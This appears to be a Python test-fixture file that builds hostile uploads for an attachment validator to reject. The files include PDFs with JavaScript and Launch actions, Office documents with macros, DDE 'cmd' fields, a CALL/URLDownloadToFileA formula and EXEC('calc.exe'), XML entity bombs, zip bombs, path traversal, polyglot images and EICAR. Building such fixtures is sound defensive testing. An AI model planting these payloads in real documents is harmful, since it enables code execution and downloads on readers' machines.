"""Files that hostile people hand in, made in code: none of them lies in the project."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from consult.attachments.kinds import EICAR
from consult.testing.attached_files import (
    box,
    docx_parts,
    docx_with_chart,
    good_files,
    huge_png,
    m4a,
    mp3,
    odt_parts,
    ogg,
    pdf,
    picture,
    relations,
    wav,
    xlsx_parts,
    xlsx_with_chart,
    zipped,
)

_XML = '<?xml version="1.0" encoding="UTF-8"?>\n'


def _pdf_with(**root: Any) -> bytes:
    return pdf(lambda made: made.Root.update(Dictionary(**root)) if hasattr(made.Root, "update") else _set(made, root))


def _set(made: pikepdf.Pdf, root: Mapping[str, Any]) -> None:
    for name, value in root.items():
        made.Root[f"/{name}"] = value


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["x.txt"] = b"inside"


def _act(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def hostile_pdfs() -> dict[str, bytes]:
    """Return PDFs that are not taken, by what is wrong with them."""
    script = _act("JavaScript", JS=String("app.alert(1)"))
    bomb = zlib.compress(zlib.compress(bytes(10_000_000)))

    def stream(content: bytes, filters: Any) -> Callable[[pikepdf.Pdf], object]:
        return lambda made: _set(made, {"Extra": Stream(made, content, Filter=filters)})

    whole = pdf()
    return {
        "JavaScript": _pdf_with(OpenAction=script),
        "JavaScript by name": _pdf_with(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))),
        "JavaScript deep": _pdf_with(Deep=Array([Array([Dictionary(Next=Array([script]))])])),
        "launch": _pdf_with(OpenAction=_act("Launch", F=String("calc.exe"))),
        "form sent": _pdf_with(OpenAction=_act("SubmitForm", F=String("https://example.org"))),
        "remote": _pdf_with(OpenAction=_act("GoToR", F=String("\\\\server\\share"))),
        "XFA": _pdf_with(AcroForm=Dictionary(XFA=String("<x/>"))),
        "file inside": pdf(_attach),
        "encrypted": pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "encrypted for writing": pdf(encryption=pikepdf.Encryption(owner="o", user="")),
        "truncated": whole[: len(whole) // 2],
        "only a head": b"%PDF-1.7\n",
        "and ZIP": whole + zipped({"a.class": b"x"}),
        "and HTML": whole + b"<script>alert(1)</script>",
        "ZIP before the end": whole.replace(b"%%EOF", zipped({"a.class": b"x"}) + b"%%EOF"),
        "EICAR": pdf(lambda made: _set(made, {"Extra": Stream(made, EICAR)}), compress_streams=False),
        "EICAR packed": pdf(stream(zlib.compress(EICAR), Name.FlateDecode)),
        "packed twice": pdf(stream(bomb, Array([Name.FlateDecode, Name.FlateDecode]))),
        "bomb": pdf(stream(zlib.compress(bytes(80 * 2**20), 9), Name.FlateDecode)),
        "huge picture": pdf(
            lambda made: _set(made, {"X": Stream(made, b"", Subtype=Name.Image, Width=50_000, Height=50_000)})
        ),
    }


def _lying_zip() -> bytes:
    """Return a document whose directory says that a large part is small."""
    whole = zipped(docx_parts(), **{"word/big.xml": bytes(3_000_000)})
    return whole.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 100))


def hostile_archives() -> dict[str, bytes]:
    """Return documents that are not taken, by what is wrong with them."""
    docx, xlsx, odt = docx_parts(), xlsx_parts(), odt_parts()
    good = zipped(docx)
    entities = f'<!DOCTYPE w [<!ENTITY a "{"a" * 50}"><!ENTITY b "{"&a;" * 50}">]>'
    field = "<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r></w:p>"

    def formula(text: str) -> bytes:
        return zipped(xlsx_parts(f"<c><f>{text}</f><v>1</v></c>"))

    def named(part: str, text: str) -> bytes:
        return zipped(xlsx, **{part: f'{_XML}<x xmlns="x:s" xmlns:c="x:c">{text}</x>'})

    def word_field(instruction: str) -> str:
        return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p>'

    sum_of = "SUM(Sheet1!$A$1:$A$3)"
    macro = str(docx["[Content_Types].xml"]).replace(
        "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
    )
    return {
        "macro": zipped(docx, **{"word/vbaProject.bin": b"x"}),
        "macro in another folder": zipped(docx, **{"word/VBAPROJECT.BIN": b"x"}),
        "macro document renamed": zipped({**docx, "[Content_Types].xml": macro}),
        "xlsm renamed": zipped(xlsx, **{"xl/vbaProject.bin": b"x"}),
        "macro sheet of Excel 4": zipped(xlsx, **{"xl/macrosheets/sheet1.xml": "<a/>"}),
        "ActiveX": zipped(docx, **{"word/activeX/activeX1.xml": "<a/>"}),
        "OLE": zipped(docx, **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "OLE under another name": zipped(docx, **{"word/media/image1.dat": b"\xd0\xcf\x11\xe0\xa1\xb1"}),
        "program inside": zipped(docx, **{"word/media/image1.png": b"MZ\x90"}),
        "archive inside": zipped(docx, **{"word/media/x.dat": zipped({"a": b"a"})}),
        "template from elsewhere": zipped(
            docx, **{"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://example.org/a.dotm")}
        ),
        "picture from elsewhere": zipped(
            docx, **{"word/_rels/document.xml.rels": relations("image", "https://example.org/a.png")}
        ),
        "link to a file": zipped(
            docx, **{"word/_rels/document.xml.rels": relations("hyperlink", "file:///c:/windows/a.exe")}
        ),
        "frame": zipped(docx, **{"word/_rels/document.xml.rels": relations("frame", "https://example.org")}),
        "DDE in a field": zipped(docx_parts(field)),
        "DDE in a simple field": zipped(docx_parts('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd "/>')),
        "text included": zipped(docx_parts('<w:fldSimple w:instr="INCLUDETEXT x"/>')),
        "DDE in a cell": formula("cmd|'/c calc'!A0"),
        "another workbook": formula("[1]Sheet1!A1"),
        "web service": formula('WEBSERVICE("https://example.org/"&amp;A1)'),
        "link in a formula": formula('HYPERLINK("https://example.org/"&amp;A1,"click")'),
        "call": formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://example.org")'),
        "sum": formula("SUM(A1:A3)"),
        "difference": formula("B1-A1"),
        "another cell": formula("A1"),
        "value as a formula": formula("42"),
        "formula shared with a cell": zipped(xlsx_parts('<c r="B7"><f t="shared" si="0"/><v>1</v></c>')),
        "formula of several cells": zipped(xlsx_parts('<c r="B7"><f t="array" ref="B7:B9">A1:A3*2</f><v>1</v></c>')),
        "name that calculates": named("xl/workbook2.xml", f'<definedName name="total">{sum_of}</definedName>'),
        "name that calls": named("xl/workbook2.xml", '<definedName name="go">EXEC("calc.exe")</definedName>'),
        "rule for cells that calculates": named(
            "xl/worksheets/sheet2.xml",
            "<conditionalFormatting><cfRule><formula>A1&gt;B1</formula></cfRule></conditionalFormatting>",
        ),
        "colour by a formula": named("xl/worksheets/sheet2.xml", '<cfvo type="formula" val="MAX($A$1:$A$9)"/>'),
        "list that calculates": named("xl/worksheets/sheet2.xml", '<formula1>INDIRECT("A1")</formula1>'),
        "column of a table that calculates": named(
            "xl/tables/table1.xml", "<calculatedColumnFormula>Table1[[#This Row],[a]]*2</calculatedColumnFormula>"
        ),
        "field of a pivot table that calculates": named(
            "xl/pivotCache/pivotCacheDefinition1.xml", '<cacheField name="x" formula="people /homes"/>'
        ),
        "chart that calculates": xlsx_with_chart("OFFSET(Sheet1!$B$2,0,0,3)"),
        "sum in a text": zipped(docx_parts(word_field(" =SUM(ABOVE) "))),
        "sum of a field in a text": zipped(docx_parts(word_field(" = ") + word_field("PAGE") + word_field(" - 1"))),
        "sum in a simple field": zipped(docx_parts('<w:fldSimple w:instr="= 1 + 1"/>')),
        "ODT sum in a table": zipped(
            odt_parts('<table:table-cell xmlns:table="x:b" table:formula="ooow:sum &lt;A1:A3&gt;"/>')
        ),
        "ODT another cell": zipped(odt_parts('<table:table-cell xmlns:table="x:b" table:formula="of:=[.A1]"/>')),
        "ODT field that calculates": zipped(odt_parts('<text:expression text:formula="ooow:1+1"/>')),
        "chart of another workbook": xlsx_with_chart("[1]Sheet1!$B$2:$B$3"),
        "chart of a file": xlsx_with_chart(r"'\\server\share\[book.xlsx]Sheet1'!$B$2"),
        "chart fed from elsewhere": xlsx_with_chart(reach=relations("package", "https://example.org/a.xlsx")),
        "chart that runs a macro": xlsx_with_chart(shape='macro="[0]!Go"'),
        "button that runs a macro": zipped(
            xlsx, **{"xl/drawings/vmlDrawing1.vml": '<xml xmlns:x="x:e"><x:FmlaMacro>[0]!Go</x:FmlaMacro></xml>'}
        ),
        "workbook beside a chart": docx_with_chart("word/_rels/document.xml.rels"),
        "EICAR behind a chart": docx_with_chart(behind=EICAR),
        "macro workbook beside a chart": zipped(docx, **{"word/embeddings/Book1.xlsm": zipped(xlsx)}),
        "external link part": zipped(xlsx, **{"xl/externalLinks/externalLink1.xml": "<a/>"}),
        "connection": zipped(xlsx, **{"xl/connections.xml": "<a/>"}),
        "entities": zipped({**docx, "word/document.xml": f"{_XML}{entities}<w>&b;</w>"}),
        "entities in UTF-16": zipped({**docx, "word/document.xml": f"{entities}<w>&b;</w>".encode("utf-16")}),
        "entities in metadata": zipped({**docx, "docProps/core.xml": f"{_XML}{entities}<w>&b;</w>"}),
        "broken XML": zipped({**docx, "word/document.xml": "<w>"}),
        "ODT macro": zipped(odt, **{"Basic/Standard/Module1.xml": "<a/>"}),
        "ODT script": zipped(odt, **{"Scripts/python/a.py": "import os"}),
        "ODT event": zipped(odt_parts('<script:event-listener script:language="ooo:script"/>')),
        "ODT object": zipped(odt, **{"Object 1/content.xml": "<a/>"}),
        "ODT section from a file": zipped(odt_parts('<text:section-source xlink:href="../a.odt"/>')),
        "ODT picture from elsewhere": zipped(odt_parts('<draw:image xlink:href="https://example.org/a.png"/>')),
        "ODT macro link": zipped(odt_parts('<text:a xlink:href="vnd.sun.star.script:a.b">x</text:a>')),
        "ODT DDE": zipped(odt_parts("<text:dde-connection/>")),
        "ODT encrypted": zipped({**odt, "META-INF/manifest.xml": f"{_XML}<m:encryption-data xmlns:m='x:m'/>"}),
        "ODS called ODT": zipped({**odt, "mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "ratio": zipped(docx, **{"word/big.xml": bytes(20_000_000)}),
        "too much": zipped(
            docx, **{f"word/media/{n}.dat": bytes(n) * 0 + bytes(range(256)) * 90_000 for n in range(5)}
        ),
        "many parts": zipped(docx, **{f"word/{n}.xml": b"" for n in range(2_500)}),
        "lying directory": _lying_zip(),
        "something before": b"#!/bin/sh\n" + good,
        "ZIP before a ZIP": zipped({"a": b"a"}) + good,
        "something after": good + b"<script>",
        "comment": _commented(good),
        "truncated": good[: len(good) // 2],
        "path outside": zipped(docx, **{"../../evil.xml": "<a/>"}),
        "two of one name": _doubled(docx),
        "encrypted": _flagged(good),
        "EICAR": zipped(docx, **{"word/media/a.dat": EICAR}),
        "EICAR in a workbook": zipped(xlsx, **{"xl/media/a.dat": EICAR}),
        "EICAR in ODT": zipped(odt, **{"Pictures/a.dat": EICAR}),
        "plain ZIP": zipped({"a.txt": "a"}),
        "ZIP of ZIPs": zipped({"a.zip": zipped({"b.zip": zipped({"c": bytes(1_000_000)})})}),
        "ODS": zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}),
        "picture of 50,000 by 50,000": zipped(docx, **{"word/media/image1.png": huge_png()}),
    }


def _commented(whole: bytes) -> bytes:
    return whole[:-2] + struct.pack("<H", 8) + b"<script>"


def _flagged(whole: bytes) -> bytes:
    at = whole.index(b"PK\x01\x02")
    return whole[: at + 8] + b"\x01\x00" + whole[at + 10 :]


def _doubled(parts: Mapping[str, bytes | str]) -> bytes:
    return zipped(parts, **{"Word/Document.xml": "<a/>"})


def hostile_others() -> dict[str, bytes]:
    """Return pictures, sounds and other things that are not taken."""
    jpeg, png, moving = picture(), picture("PNG"), BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(moving, "PNG", save_all=True, append_images=frames[1:])
    gif = BytesIO()
    frames[0].save(gif, "GIF")
    return {
        "empty": b"",
        "nothing known": b"hello",
        "text": "نص".encode(),
        "HTML": b"<!doctype html><script>alert(1)</script>",
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "program": b"MZ\x90\x00",
        "Word of 1997": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "RTF": b"{\\rtf1}",
        "GIF": gif.getvalue(),
        "GIF and JAR": gif.getvalue() + zipped({"a.class": b"x"}),
        "JPEG and JAR": jpeg + zipped({"a.class": b"x"}),
        "JPEG and PHP": jpeg[:2] + b"\xff\xfe\x00\x10<?php x();  ?" + jpeg[2:],
        "PNG and HTML": png + b"<ScRiPt>alert(1)</script>",
        "PNG and ZIP": png + zipped({"a": b"a"}),
        "JPEG and PDF": jpeg[:2] + b"\xff\xfe\x00\x0a%PDF-1.7" + jpeg[2:],
        "JPEG truncated": jpeg[: len(jpeg) // 2],
        "PNG truncated": png[: len(png) // 2],
        "JPEG without anything": b"\xff\xd8\xff",
        "moving": moving.getvalue(),
        "50,000 by 50,000": huge_png(),
        "JPEG of 50,000 by 50,000": _declared(jpeg),
        "MP3 without sound": b"ID3\x03\0\0\0\0\0\0",
        "MP3 and ZIP": mp3() + zipped({"a": b"a"}),
        "WAV truncated": wav()[:200],
        "WAV and ZIP": wav() + zipped({"a": b"a"}),
        "film called M4A": m4a(b"vide"),
        "M4A truncated": m4a()[:60],
        "M4A deep": box(b"ftyp", b"M4A \0\0\0\0") + _deep(),
        "OGG truncated": ogg()[:50],
        **{f"EICAR in {name}": _with_virus(name) for name in ("jpg", "png", "webp", "mp3", "ogg", "m4a", "wav")},
        "EICAR": EICAR,
        "EICAR packed": zipped({"eicar.com": EICAR}),
    }


def _with_virus(name: str) -> bytes:
    if name in ("jpg", "png", "webp"):
        form = {"jpg": "JPEG", "png": "PNG", "webp": "WEBP"}[name]
        return picture(form) + EICAR
    return good_files()[name] + EICAR


def _deep() -> bytes:
    inner = b""
    for _ in range(40):
        inner = box(b"moov", inner)
    return inner


def _declared(jpeg: bytes) -> bytes:
    """Return a JPEG whose head says 50,000 by 50,000."""
    at = next(jpeg.index(mark) for mark in (b"\xff\xc0", b"\xff\xc2") if mark in jpeg)
    return jpeg[: at + 5] + struct.pack(">HH", 50_000, 50_000) + jpeg[at + 9 :]
